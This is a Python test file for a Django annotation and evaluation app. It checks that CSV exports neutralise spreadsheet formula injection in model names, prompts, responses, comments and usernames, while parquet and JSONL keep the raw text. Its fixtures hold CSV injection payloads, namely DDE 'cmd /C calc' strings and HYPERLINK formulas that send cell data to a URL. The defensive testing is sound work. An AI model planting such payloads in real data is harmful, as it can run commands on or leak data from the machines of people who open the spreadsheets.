"""CSV formula injection: text that people and models wrote never reaches a spreadsheet as a formula.

A model name, a prompt, a response, annotator comments and usernames are set to spreadsheet formulas; the
data then goes through the real services (annotation, judge and benchmark runs on a stub model server,
question answering, exports). Every CSV the app answers or writes must hold those texts with a leading
``'``, and no text cell may begin with a formula character at all; the parquet and JSON Lines exports keep
the raw text.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator

import pandas as pd
import pyarrow.parquet as pq
import pytest
from django.urls import reverse

from annotation import services
from annotation.models import Project
from datasets_app.models import Dataset, Prompt, Question, Response
from evaluation.services import backend_cache_clear, benchmark_run_start, judge_run_start
from exports.services import ExportOptions, export_create
from tests.evaluation.inference.openai_stub_server import Reply, StubOpenAIServer, completion_body
from tests.evaluation.services.builders import last_user, make_endpoint, shown_block

pytestmark = pytest.mark.django_db

MODEL = '=HYPERLINK("http://x?"&A1,"model")'
PROMPT = '@SUM(1+9)*cmd|" /C calc"!A0 apa ibu kota Jawa Barat?'
RESPONSE = '-2+3+cmd|" /C calc"!A0 jawabannya Bandung'
COMMENT = '=HYPERLINK("http://x?"&A1,"Klik")'
SECOND_COMMENT = "+62 812 5555 0000 hubungi saya"
QUESTION = "=1+1 Makanan apa yang biasa disajikan bersama ketupat?"
CREATOR, ANSWERER = "@kreator", "-penjawab"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def quoted(text: str) -> str:
    return "'" + text


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def cells_of(text: str) -> set[str]:
    return {cell for row in rows_of(text) for cell in row}


def assert_no_formula_cell(name: str, text: str) -> None:
    """No cell may begin with a formula character, except numbers written as numbers (-0.12)."""
    for line, row in enumerate(rows_of(text), 1):
        for cell in row:
            if cell.startswith(TRIGGERS):
                try:
                    float(cell)
                except ValueError:
                    pytest.fail(f"{name}, row {line}: cell {cell!r} reaches the spreadsheet as a formula")


@pytest.fixture
def server() -> Iterator[StubOpenAIServer]:
    stub = StubOpenAIServer().start()
    yield stub
    backend_cache_clear()
    stub.stop()


@pytest.fixture
def formula_dataset() -> Dataset:
    """Two prompts whose text is a formula, each answered by the model named with a formula (its response
    a formula too) and by a plain model."""
    dataset = Dataset.objects.create(name="formula-data")
    for i in range(2):
        prompt = Prompt.objects.create(
            dataset=dataset,
            external_id=f"f{i}",
            category="analysis",
            language="ind",
            turns=[f"{PROMPT} ({i})"],
            references=["Bandung"],
        )
        Response.objects.create(prompt=prompt, model_name=MODEL, turns=[f"{RESPONSE} ({i})"])
        Response.objects.create(prompt=prompt, model_name="beta-plain", turns=[f"Jawaban biasa {i}"])
    return dataset


@pytest.fixture
def picked(formula_dataset, make_user) -> Project:
    """A best-of-N project where both annotators pick the formula model's response, with formula comments."""
    project = services.project_create(
        dataset=formula_dataset, name="formula picks", kind="best_of_n", overlap=2, seed=7
    )
    group = project.groups.get()
    annotators = [make_user("annotator"), make_user("annotator")]
    for user in annotators:
        services.project_member_add(project=project, user=user, group=group)
    services.project_activate(project=project)
    formula_ids = set(Response.objects.filter(model_name=MODEL).values_list("pk", flat=True))
    for user, comment in zip(annotators, (COMMENT, SECOND_COMMENT), strict=True):
        while (work := services.assignment_claim(project=project, user=user)) is not None:
            shown = [work.task.response_ids[i] for i in work.permutation]
            best = next(n for n, rid in enumerate(shown, 1) if rid in formula_ids)
            services.assignment_submit(
                token=work.token, user=user, payload={"best": best, "comment": comment}
            )
    return project


@pytest.fixture
def answered(make_user) -> Project:
    """A question (text a formula) by ``@kreator``, answered wrongly by ``-penjawab``."""
    creator = make_user("annotator", username=CREATOR)
    answerer = make_user("annotator", username=ANSWERER)
    dataset = Dataset.objects.create(name="formula-questions", kind=Dataset.Kind.QUESTIONS)
    Question.objects.create(
        dataset=dataset,
        external_id="fq0",
        concept="ketupat",
        category="food",
        language="ind",
        text=QUESTION,
        choices={"A": "opor ayam", "B": "es krim", "C": "roti", "D": "keju", "E": "sereal"},
        answer_key="A",
        distractor="B",
        creator=creator,
        creator_name=CREATOR,
        status="accepted",
    )
    project = services.project_create(dataset=dataset, name="formula answers", kind="mcq_answer", overlap=1)
    services.project_member_add(project=project, user=answerer, group=project.groups.get())
    services.project_activate(project=project)
    work = services.assignment_claim(project=project, user=answerer)
    services.assignment_submit(token=work.token, user=answerer, payload={"choice": "B"})
    return project


def agreement_csvs(client, api, project: Project) -> dict[str, str]:
    """Every table of the project's agreement report as CSV, from the dashboard and from the API."""
    report = api.get(f"/api/v1/projects/{project.pk}/agreement")
    assert report.status_code == 200, report.content
    out = {}
    for section, body in report.json()["sections"].items():
        for table in body["tables"]:
            page = client.get(f"/analytics/projects/{project.pk}/{section}/{table}.csv")
            assert page.status_code == 200 and page["Content-Type"].startswith("text/csv")
            out[f"page {section}/{table}"] = page.content.decode()
            answer = api.get(f"/api/v1/projects/{project.pk}/agreement/{section}.csv", {"table": table})
            assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv")
            out[f"api {section}/{table}"] = answer.content.decode()
    return out


def streamed(response) -> str:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return b"".join(response.streaming_content).decode()


def export(project: Project, kind: str, settings, tmp_path, capture):
    settings.EXPORTS_DIR = tmp_path / "exports"
    with capture(execute=True):
        record = export_create(project=project, options=ExportOptions(kind=kind, bootstrap_draws=20))
    record.refresh_from_db()
    assert record.status == "succeeded", record.error
    return record


def test_agreement_csvs_on_the_page_and_the_api_neutralise_model_and_user_names(
    picked, answered, role_client, api_client_for
):
    client = role_client("project_manager")
    api = api_client_for("researcher")
    picks = agreement_csvs(client, api, picked)
    assert {"page best_of_n/picks", "api best_of_n/picks"} <= set(picks)
    for name, text in picks.items():
        assert_no_formula_cell(name, text)
        assert MODEL not in cells_of(text), name
    for name in ("page best_of_n/picks", "api best_of_n/picks"):
        assert quoted(MODEL) in cells_of(picks[name]), name

    conflicts = agreement_csvs(client, api, answered)
    assert {"page conflicts/conflicts", "api conflicts/conflicts"} <= set(conflicts)
    for name, text in conflicts.items():
        assert_no_formula_cell(name, text)
        assert {quoted(CREATOR), quoted(ANSWERER)} <= cells_of(text), name


def test_answer_conflict_matrix_csv_neutralises_creator_and_answerer(answered, role_client):
    client = role_client("project_manager")
    response = client.get(reverse("annotation:manage_conflicts_csv", args=[answered.pk]))
    assert response.status_code == 200
    text = response.content.decode()
    assert_no_formula_cell("conflicts.csv", text)
    assert rows_of(text) == [["creator", quoted(ANSWERER)], [quoted(CREATOR), "1"]]


def test_judge_and_benchmark_run_csvs_neutralise_model_output(
    formula_dataset, server, api_client_for, django_capture_on_commit_callbacks
):
    def quoting_judge(body) -> Reply:
        # A judge that quotes the response it saw first as its explanation, as real judges often do.
        first = shown_block(last_user(body), 1)
        return Reply(body=completion_body(json.dumps({"explanation": first, "score": "Response 1"})))

    server.responder = quoting_judge
    with django_capture_on_commit_callbacks(execute=True):
        judge_run = judge_run_start(
            judge_kind="pairwise", endpoint=make_endpoint(server, "judge"), dataset=formula_dataset
        )
    judge_run.refresh_from_db()
    assert judge_run.status == "succeeded", judge_run.error

    # A model that repeats the question it was asked.
    server.responder = lambda body: Reply(body=completion_body(last_user(body)))
    with django_capture_on_commit_callbacks(execute=True):
        benchmark = benchmark_run_start(
            task="open_qa", endpoint=make_endpoint(server, "echo"), dataset=formula_dataset
        )
    benchmark.refresh_from_db()
    assert benchmark.status == "succeeded", benchmark.error

    api = api_client_for("researcher")
    judgments = streamed(api.get(f"/api/v1/evaluation/judge-runs/{judge_run.pk}/judgments.csv"))
    verdicts = streamed(api.get(f"/api/v1/evaluation/judge-runs/{judge_run.pk}/verdicts.csv"))
    results = streamed(api.get(f"/api/v1/evaluation/benchmark-runs/{benchmark.pk}/results.csv"))
    for name, text in (("judgments", judgments), ("verdicts", verdicts), ("results", results)):
        assert_no_formula_cell(name, text)

    explanations = [row["explanation"] for row in csv.DictReader(io.StringIO(judgments))]
    assert sorted(e for e in explanations if "cmd" in e) == [
        quoted(f"{RESPONSE} (0)"),
        quoted(f"{RESPONSE} (1)"),
    ]
    predictions = [row["prediction"] for row in csv.DictReader(io.StringIO(results))]
    assert predictions and all(p.startswith(quoted(PROMPT)) for p in predictions), predictions


def test_raw_csv_export_is_neutralised_while_parquet_and_jsonl_keep_the_raw_text(
    picked, settings, tmp_path, django_capture_on_commit_callbacks
):
    raw_csv = export(picked, "raw-csv", settings, tmp_path, django_capture_on_commit_callbacks)
    text = (tmp_path / "exports").joinpath(raw_csv.folder_path, "annotations.csv").read_text(encoding="utf-8")
    assert_no_formula_cell("annotations.csv", text)
    frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert set(frame.loc[frame["criterion"] == "comment", "comment"]) == {
        quoted(COMMENT),
        quoted(SECOND_COMMENT),
    }
    assert set(frame.loc[frame["criterion"] == "best", "model_name"]) == {quoted(MODEL)}
    card = (tmp_path / "exports").joinpath(raw_csv.folder_path, "README.md").read_text(encoding="utf-8")
    assert "leading `'`" in card and "parquet and JSON files hold the raw text" in card

    parquet = export(picked, "raw-parquet", settings, tmp_path, django_capture_on_commit_callbacks)
    table = pq.read_table(f"{parquet.folder_path}/annotations.parquet").to_pandas()
    assert set(table.loc[table["criterion"] == "comment", "comment"]) == {COMMENT, SECOND_COMMENT}
    assert set(table.loc[table["criterion"] == "best", "model_name"]) == {MODEL}

    jsonl = export(picked, "raw-jsonl", settings, tmp_path, django_capture_on_commit_callbacks)
    lines = [json.loads(line) for line in open(f"{jsonl.folder_path}/annotations.jsonl", encoding="utf-8")]
    assert {row["comment"] for row in lines if row["criterion"] == "comment"} == {COMMENT, SECOND_COMMENT}
    assert {row["model_name"] for row in lines if row["criterion"] == "best"} == {MODEL}


def test_question_set_and_preference_exports_keep_the_raw_text(
    picked, answered, settings, tmp_path, django_capture_on_commit_callbacks
):
    questions = export(answered, "question-set", settings, tmp_path, django_capture_on_commit_callbacks)
    frame = pq.read_table(f"{questions.folder_path}/data/train-00000-of-00001.parquet").to_pandas()
    assert frame["question"].tolist() == [QUESTION]

    pairs = export(picked, "hf", settings, tmp_path, django_capture_on_commit_callbacks)
    split = pq.read_table(f"{pairs.folder_path}/data/train-00000-of-00001.parquet").to_pandas()
    assert set(split["chosen_model"]) == {MODEL}
    assert all(row[0]["content"].startswith(RESPONSE) for row in split["chosen"])
    card = open(f"{pairs.folder_path}/README.md", encoding="utf-8").read()
    assert "parquet and JSON files hold the raw text" in card
